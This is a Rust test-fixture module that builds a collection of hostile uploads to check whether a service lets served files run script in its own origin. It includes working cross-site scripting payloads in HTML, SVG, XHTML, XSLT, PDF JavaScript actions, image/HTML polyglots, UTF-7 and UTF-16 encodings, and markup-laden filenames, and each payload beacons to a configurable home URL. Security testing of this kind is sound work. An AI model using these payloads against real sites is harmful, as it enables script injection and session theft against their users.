//! Files that try to run script in the origin that serves them.

use imprimatur_testkit::pdf::PdfWriter;

/// A picture of one pixel, complete.
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\x0f\
    \0\0\x01\x01\0\x05\x18\xd8N\0\0\0\0IEND\xaeB`\x82";
/// How a JPEG begins and ends.
const JPEG: (&[u8], &[u8]) = (
    b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0",
    b"\xff\xd9",
);

/// A hostile file.
pub(super) struct Hostile {
    /// What its script leaves behind.
    pub(super) mark: &'static str,
    pub(super) name: String,
    pub(super) media_type: &'static str,
    pub(super) bytes: Vec<u8>,
    /// Whether any browser runs its script when it is given out carelessly.
    pub(super) is_live: bool,
}

fn hostile(
    mark: &'static str,
    name: impl Into<String>,
    media_type: &'static str,
    bytes: impl Into<Vec<u8>>,
) -> Hostile {
    Hostile {
        mark,
        name: name.into(),
        media_type,
        bytes: bytes.into(),
        is_live: false,
    }
}

fn live(mut hostile: Hostile) -> Hostile {
    hostile.is_live = true;
    hostile
}

/// Script that leaves a mark in its origin, three times, and calls home.
fn script(mark: &str, home: &str) -> String {
    format!(
        "try{{localStorage.setItem('ran','{mark}')}}catch(e){{}}\
         try{{document.cookie='ran={mark};path=/'}}catch(e){{}}\
         try{{document.title='ran {mark}'}}catch(e){{}}\
         new Image().src='{home}/?{mark}'"
    )
}

fn html(mark: &str, home: &str) -> String {
    let script = script(mark, home);
    format!(
        "<!doctype html><html><head><title>x</title><script>{script}</script></head>\
         <body onload=\"{script}\"><img src=x onerror=\"{script}\"></body></html>"
    )
}

/// All of them. Their scripts call at `home`.
pub(super) fn arsenal(home: &str) -> Vec<Hostile> {
    let mut all = markup(home);
    all.extend(disguises(home));
    all.extend(documents(home));
    all.extend(pictures(home));
    all.extend(encodings(home));
    all
}

fn markup(home: &str) -> Vec<Hostile> {
    let svg = |mark: &str| {
        let script = script(mark, home);
        format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\" onload=\"{script}\">\
             <script>{script}</script><rect width=\"9\" height=\"9\"/></svg>"
        )
    };
    let foreign = script("foreign", home);
    let foreign = format!(
        "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"9\" height=\"9\">\
         <body xmlns=\"http://www.w3.org/1999/xhtml\"><script>{foreign}</script>\
         <iframe src=\"javascript:{foreign}\"/></body></foreignObject></svg>"
    );
    let xhtml = script("xhtml", home);
    let xhtml = format!(
        "<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>x</title>\
         <script>{xhtml}</script></head><body onload=\"{xhtml}\"/></html>"
    );
    let sheet = script("sheet", home);
    let sheet = format!(
        "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"#s\"?>\
         <r><xsl:stylesheet id=\"s\" version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">\
         <xsl:template match=\"/\"><html><script>{sheet}</script></html></xsl:template></xsl:stylesheet>\
         </r>"
    );
    let xml = script("xml", home);
    let xml = format!(
        "<?xml version=\"1.0\"?><r><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">{xml}</x:script></r>"
    );
    vec![
        live(hostile(
            "html",
            "page.html",
            "text/html",
            html("html", home),
        )),
        live(hostile("svg", "drawing.svg", "image/svg+xml", svg("svg"))),
        live(hostile("foreign", "foreign.svg", "image/svg+xml", foreign)),
        live(hostile(
            "xhtml",
            "page.xhtml",
            "application/xhtml+xml",
            xhtml,
        )),
        live(hostile("xml", "record.xml", "text/xml", xml)),
        hostile("sheet", "sheet.xml", "text/xml", sheet),
        hostile(
            "svgz",
            "drawing.svgz",
            "image/svg+xml",
            gzip(svg("svgz").as_bytes()),
        ),
        hostile("js", "script.js", "text/javascript", script("js", home)),
    ]
}

/// HTML under other names and types, and a name that is HTML.
fn disguises(home: &str) -> Vec<Hostile> {
    vec![
        hostile("png", "page.png", "image/png", html("png", home)),
        hostile("pdf", "page.pdf", "application/pdf", html("pdf", home)),
        hostile("jpg", "page.jpg", "image/jpeg", html("jpg", home)),
        hostile(
            "bin",
            "page.bin",
            "application/octet-stream",
            html("bin", home),
        ),
        hostile(
            "name",
            "\"><svg onload=localStorage.setItem('ran','name')>.png",
            "image/png",
            PNG,
        ),
        hostile(
            "quote",
            "'-localStorage.setItem('ran','quote')-';filename=\"x.html\".pdf",
            "application/pdf",
            html("quote", home),
        ),
    ]
}

fn documents(home: &str) -> Vec<Hostile> {
    let script = script("action", home);
    let mut pdf = PdfWriter::new();
    pdf.add("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 5 0 R /DC 5 0 R >> >>");
    pdf.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
    pdf.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA << /O 5 0 R >> >>");
    pdf.add(format!(
        "<< /S /JavaScript /JS (app.launchURL\\(\"javascript:{script}\"\\);this.getURL\\(\"javascript:{script}\"\\)) >>"
    ));
    pdf.add(format!("<< /S /URI /URI (javascript:{script}) >>"));
    let first = format!("{}%PDF-1.7\n", html("first", home));
    let mut binary = first.clone().into_bytes();
    binary.extend_from_slice(b"\0\x01\x02\xff");
    let archive = html("mhtml", home);
    let archive = format!(
        "From: <Saved by Blink>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; \
         type=\"text/html\"; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n{archive}\r\n--b--\r\n"
    );
    vec![
        hostile("action", "action.pdf", "application/pdf", pdf.finish()),
        hostile("first", "first.pdf", "application/pdf", first),
        hostile("first", "binary.pdf", "text/html", binary),
        hostile("mhtml", "page.mhtml", "multipart/related", archive),
    ]
}

/// Pictures that are HTML as well.
fn pictures(home: &str) -> Vec<Hostile> {
    let gif = format!("GIF89a{}", html("gif", home));
    let png = [PNG, html("trailing", home).as_bytes()].concat();
    let comment = html("comment", home);
    let length = u16::try_from(comment.len() + 2).unwrap().to_be_bytes();
    let jpeg = [JPEG.0, b"\xff\xfe", &length, comment.as_bytes(), JPEG.1].concat();
    vec![
        live(hostile("gif", "polyglot.gif", "text/html", gif)),
        live(hostile("trailing", "trailing.png", "text/html", png)),
        live(hostile("comment", "comment.jpg", "text/html", jpeg)),
    ]
}

/// HTML in letters that not everybody reads.
fn encodings(home: &str) -> Vec<Hostile> {
    let utf16: Vec<u8> = std::iter::once(0xfeff)
        .chain(html("utf16", home).encode_utf16())
        .flat_map(u16::to_le_bytes)
        .collect();
    let utf7 = format!(
        "<html><head><meta charset=\"utf-7\"></head>+ADw-script+AD4-{}+ADw-/script+AD4-</html>",
        script("utf7", home)
    );
    vec![
        live(hostile("utf16", "utf16.html", "text/html", utf16)),
        hostile("utf7", "utf7.html", "text/html", utf7),
    ]
}

/// Packed by not packing at all.
fn gzip(bytes: &[u8]) -> Vec<u8> {
    let length = u16::try_from(bytes.len()).unwrap();
    let mut packed = b"\x1f\x8b\x08\0\0\0\0\0\0\xff\x01".to_vec();
    packed.extend_from_slice(&length.to_le_bytes());
    packed.extend_from_slice(&(!length).to_le_bytes());
    packed.extend_from_slice(bytes);
    packed.extend_from_slice(&crc32(bytes).to_le_bytes());
    packed.extend_from_slice(&u32::from(length).to_le_bytes());
    packed
}

fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
            (crc >> 1) ^ (0xedb8_8320 & (crc & 1).wrapping_neg())
        })
    })
}
